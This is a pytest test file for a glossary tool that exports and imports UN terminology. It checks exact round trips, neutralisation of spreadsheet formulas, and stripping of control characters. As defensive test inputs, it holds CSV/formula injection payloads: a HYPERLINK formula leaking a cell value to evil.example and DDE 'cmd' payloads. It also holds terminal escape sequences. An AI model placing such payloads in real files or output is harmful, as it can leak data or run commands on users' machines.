"""Glossary files that leave us and come back (issue 13): exact round trips, no live spreadsheet
formulas, no control characters."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile

import pytest

from termalign.glossary.concepts import STATUSES, Concept, Term
from termalign.glossary.formats.base import FORMATS, ImportOptions, escape_cell, get_format, unescape_cell
from termalign.glossary.termbase import Termbase


def un_concepts(status: str) -> list[Concept]:
    """UN terms as a reviewed termbase holds them: several forms per language, notes on both levels."""
    def term(lang: str, text: str, term_type: str = "fullForm", note: str = "") -> Term:
        return Term(lang, text, status, term_type=term_type, note=note)

    return [
        Concept(id=None, note="multi-stakeholder forum convened by the Secretary-General", terms=[
            term("zh", "因特网治理论坛"), term("zh", "互联网治理论坛", note="used in early drafts"),
            term("en", "Internet Governance Forum"), term("en", "IGF", "acronym")]),
        Concept(id=None, note="A/RES/70/1", terms=[
            term("zh", "可持续发展目标"), term("zh", "可持续发展诸目标"), term("zh", "目标", "shortForm"),
            term("en", "Sustainable Development Goals"), term("en", "SDGs", "acronym"),
            term("en", "Goals", "shortForm", note="capitalised in resolutions")]),
        Concept(id=None, terms=[
            term("zh", "小岛屿发展中国家"), term("en", "small island developing States"),
            term("en", "SIDS", "acronym")]),
        Concept(id=None, terms=[
            term("zh", "信息和通信技术"), term("zh", "信通技术", "shortForm"),
            term("en", "information and communications technology"), term("en", "ICT", "acronym"),
            term("en", "ICTs", "acronym")]),
        # Terms a spreadsheet would take for formulas, and one that starts with the escape quote.
        Concept(id=None, note="-based: hyphenated suffix; +5 °C: temperature goal", terms=[
            term("en", "-based"), term("en", "+5 °C"), term("en", "'s-Hertogenbosch agreement"),
            term("zh", "基于"), term("zh", "=摄氏5度", note="@UNFCCC usage")]),
    ]


def snapshot(concepts: list[Concept], *, full: bool = True) -> dict[str, tuple]:
    """Concept id -> (note, terms), order-free; FULL adds term types and notes."""
    return {c.id: (c.note if full else "",
                   frozenset((t.lang, t.text, t.status) + ((t.term_type, t.note) if full else ())
                             for t in c.terms))
            for c in concepts}


def make_termbase(path, concepts: list[Concept]):
    with Termbase.open(path, create=True) as base:
        base.commit_import(concepts, note="reviewed UN glossary")
    return path


@pytest.mark.parametrize("status", STATUSES)
@pytest.mark.parametrize("name", list(FORMATS))
def test_our_export_reimports_to_the_same_concepts_terms_and_statuses(run_cli, tmp_path, name, status):
    original_tb = make_termbase(tmp_path / "un.db", un_concepts(status))
    exported = tmp_path / f"un.{name.rstrip('23')}"      # tbx2 and tbx3 are both .tbx files
    result = run_cli("termbase", "export", original_tb, "--format", name, "--status", status, "-o", exported)
    assert result.exit_code == 0, result.stderr
    with Termbase.open(original_tb) as base:
        original = base.concepts()
    assert sum(len(c.terms) for c in original) == 23
    if name == "tsv" and status in ("deprecated", "superseded"):
        # OmegaT offers every target it is given: a glossary of terms to avoid has nothing to offer.
        assert exported.read_text(encoding="utf-8") == ""
        assert "(0 rows)" in result.stderr
        return
    copy_tb = tmp_path / "copy.db"
    # --status: what a format that has no status of its own (TBX candidates, TSV sources) comes back as.
    result = run_cli("termbase", "import", copy_tb, exported, "--format", name, "--status", status)
    assert result.exit_code == 0, result.stderr
    with Termbase.open(copy_tb) as base:
        back = base.concepts()
    # TSV has no columns for term types and notes; everything else carries all of it.
    full = name != "tsv"
    assert snapshot(back, full=full) == snapshot(original, full=full)
    assert sum(len(c.terms) for c in back) == 23


@pytest.mark.parametrize("name", ["csv", "xlsx"])
def test_table_exports_write_each_term_once(tmp_path, name):
    """A concept without mining evidence used to get its Chinese head on a second row."""
    with Termbase.open(make_termbase(tmp_path / "un.db", un_concepts("preferred"))) as base:
        concepts = base.concepts()
    from termalign.glossary.formats import table
    from termalign.glossary.formats.base import ExportOptions

    rows = [tuple(r[:2]) for r in table.rows(concepts, ExportOptions())]
    assert len(rows) == len(set(rows))
    # a concept of e English and z Chinese terms needs e + z - 1 rows: 23 terms in 5 concepts
    assert len(rows) == 23 - 5
    path = tmp_path / f"un.{name}"
    assert get_format(name).write(concepts, path, ExportOptions()) == len(rows)


# --- spreadsheet formulas -------------------------------------------------------------------------

HOSTILE_TERMS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-based", "+5 °C", "'s-Hertogenbosch", "''", "'=1+1"]


def hostile_termbase(tmp_path):
    concepts = [Concept(id=None, note=text, terms=[Term("en", text, "preferred"),
                                                   Term("zh", f"术语{number}", "preferred", note=text)])
                for number, text in enumerate(HOSTILE_TERMS, 1)]
    return make_termbase(tmp_path / "hostile.db", concepts)


@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_text_exports_neutralise_formulas_and_read_back_the_same_text(run_cli, tmp_path, name):
    tb = hostile_termbase(tmp_path)
    exported = tmp_path / f"g.{name}"
    assert run_cli("termbase", "export", tb, "-o", exported).exit_code == 0
    text = exported.read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter="," if name == "csv" else "\t") for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    copy = tmp_path / "copy.db"
    assert run_cli("termbase", "import", copy, exported).exit_code == 0
    with Termbase.open(copy) as base:
        assert {t.text for c in base.concepts() for t in c.terms_in("en")} == set(HOSTILE_TERMS)
        if name == "csv":
            assert {c.note for c in base.concepts()} == set(HOSTILE_TERMS)


def test_xlsx_export_writes_text_cells_never_formulas(run_cli, tmp_path):
    from openpyxl import load_workbook

    tb = hostile_termbase(tmp_path)
    exported = tmp_path / "g.xlsx"
    assert run_cli("termbase", "export", tb, "-o", exported).exit_code == 0
    with zipfile.ZipFile(exported) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    workbook = load_workbook(exported)      # not data_only: a formula would show as one
    en_column = next(c.column for c in workbook.active[1] if c.value == "en")
    cells = [c for row in workbook.active.iter_rows(min_row=2) for c in row if c.value is not None]
    assert {c.value for c in cells if c.column == en_column} == set(HOSTILE_TERMS)
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    copy = tmp_path / "copy.db"
    assert run_cli("termbase", "import", copy, exported).exit_code == 0
    with Termbase.open(copy) as base:
        assert {t.text for c in base.concepts() for t in c.terms_in("en")} == set(HOSTILE_TERMS)


@pytest.mark.parametrize("text", HOSTILE_TERMS + ["", "'", "'s", "plain"])
def test_the_cell_escape_is_undone_exactly(text):
    assert unescape_cell(escape_cell(text)) == text
    assert not escape_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_foreign_csv_keeps_a_leading_quote_that_escapes_nothing(tmp_path):
    path = tmp_path / "vendor.csv"
    path.write_text("en,zh\n's-Hertogenbosch agreement,斯海尔托亨博斯协定\n'-based,基于\n", encoding="utf-8")
    concepts = get_format("csv").read(path, ImportOptions())
    assert [c.terms_in("en")[0].text for c in concepts] == ["'s-Hertogenbosch agreement", "-based"]


# --- control characters ---------------------------------------------------------------------------

def test_control_characters_are_stripped_on_import_of_every_text_format(tmp_path):
    tsv = tmp_path / "g.txt"
    tsv.write_text("Internet Governance Forum\x1b[31m\t因特网治理论坛\x07\n", encoding="utf-8")
    table = tmp_path / "g.csv"
    table.write_text("en,zh,note,zh_note\n\x1b]0;pwned\x07digital divide,数字鸿沟,see\x1b[2J A/RES/80/21,\x9bx\n",
                     encoding="utf-8")
    texts = []
    for path, name in ((tsv, "tsv"), (table, "csv")):
        for concept in get_format(name).read(path, ImportOptions()):
            texts += [concept.note] + [t.text for t in concept.terms] + [t.note for t in concept.terms]
    assert "Internet Governance Forum [31m" in texts and "因特网治理论坛" in texts
    assert "see [2J A/RES/80/21" in texts and "]0;pwned digital divide" in texts
    assert not any(ch in text for text in texts for ch in "\x1b\x07\x9b")


def test_xlsx_import_strips_control_characters(tmp_path):
    """XML keeps most control characters out of a workbook, but tab, newline and CR are legal in a cell."""
    from openpyxl import Workbook

    path = tmp_path / "g.xlsx"
    workbook = Workbook()
    workbook.active.append(["en", "zh", "note"])
    workbook.active.append(["least developed\tcountries", "最不发达国家\r\n", "LDCs:\nlist reviewed triennially"])
    workbook.save(path)
    [concept] = get_format("xlsx").read(path, ImportOptions())
    assert {t.text for t in concept.terms} == {"least developed countries", "最不发达国家"}
    assert concept.note == "LDCs: list reviewed triennially"


def test_notes_lose_control_characters_and_versions_prints_old_ones_safely(run_cli, tmp_path):
    tb = make_termbase(tmp_path / "un.db", un_concepts("preferred"))
    result = run_cli("termbase", "approve", tb, "IGF", "--note", "checked\x1b]0;owned\x07 against A/RES/80/17")
    assert result.exit_code == 0, result.stderr
    # A termbase written before the check: control characters straight into its tables.
    with sqlite3.connect(tb) as conn:
        conn.execute("UPDATE versions SET note = 'first\x1b[2Jimport' WHERE number = 1")
        conn.execute("UPDATE terms SET text = 'Internet Governance\x07 Forum' WHERE text = 'Internet Governance Forum'")
        conn.execute("UPDATE term_states SET note = 'early\x1b[31m drafts' WHERE note = 'used in early drafts'")
    conn.close()
    result = run_cli("termbase", "versions", tb)
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "checked ]0;owned  against A/RES/80/17" in result.stdout
    assert r"first\x1b[2Jimport" in result.stdout
    shown = run_cli("termbase", "show", tb, "IGF")
    assert shown.exit_code == 0 and r"Internet Governance\x07 Forum" in shown.stdout
    for name in ("tbx", "xlsx", "csv"):
        exported = tmp_path / f"un.{name}"
        result = run_cli("termbase", "export", tb, "-o", exported)
        assert result.exit_code == 0, result.stderr
        back = get_format(name).read(exported, ImportOptions())
        # (TBX folds runs of white space, as XML readers do)
        texts = {" ".join(x.split()) for c in back for t in c.terms for x in (t.text, t.note)}
        assert "Internet Governance Forum" in texts and "early [31m drafts" in texts
